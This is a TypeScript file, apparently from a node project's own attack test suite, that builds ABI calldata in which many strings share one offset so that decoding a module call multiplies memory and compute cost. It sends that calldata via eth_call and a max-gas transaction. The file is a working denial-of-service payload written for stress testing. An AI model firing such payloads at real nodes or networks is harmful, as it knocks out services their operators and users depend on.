import { Interface } from 'ethers';
import { multilayerAddress } from '#qord/modules/addresses.ts';
import { concatBytes } from '#qord/primitives/bytes.ts';
import { fromHex, toHex } from '#qord/primitives/hex.ts';
import { callOf, callsWithInput } from '#qord/testing/evm/evm-loops.ts';
import { type Attack, type AttackContext, sized } from '../attack.ts';
import { maxTransactionGas, openFundedAttacker } from '../funded-attacker.ts';

const selector = new Interface(['function bundledFee(uint64,string[])']).getFunction('bundledFee')?.selector ?? '0x';
const word = (value: number) => fromHex(`0x${value.toString(16).padStart(64, '0')}`);

/** Calldata of bundledFee with `count` texts that all have the same offset, `length` zero bytes long. */
function aliasedTexts(count: number, length: number): Uint8Array {
  const offsets = Array.from({ length: count }, () => word(count * 32));
  return concatBytes(
    fromHex(selector),
    word(1),
    word(64),
    word(count),
    ...offsets,
    word(length),
    new Uint8Array(length),
  );
}

/** A list of texts with the same offset: decoding each of them takes count × length bytes. */
export const abiAliasing: Attack = {
  summary: 'lists of texts that all lie at the same place in 1 MB of calldata of a module call',
  attack: async (context) => {
    const { clients, urls } = context;
    const data = toHex(aliasedTexts(sized(context, 15_625, 4_000), sized(context, 500_000, 100_000)));
    const code = callsWithInput(multilayerAddress, 'GAS');
    await clients.call(urls.http ?? '', 'eth_call', ...callOf(code, { data }));
    await clients.call(urls.http ?? '', 'eth_call', { to: multilayerAddress, data }, 'latest');
    await sendIt(context);
  },
};

async function sendIt(context: AttackContext): Promise<void> {
  const payer = await openFundedAttacker(context);
  const data = aliasedTexts(sized(context, 12_500, 1_000), sized(context, 390_000, 25_000));
  const hash = await payer.send({ to: multilayerAddress, value: 0n, data, gasLimit: maxTransactionGas });
  await payer.receipt(hash);
}
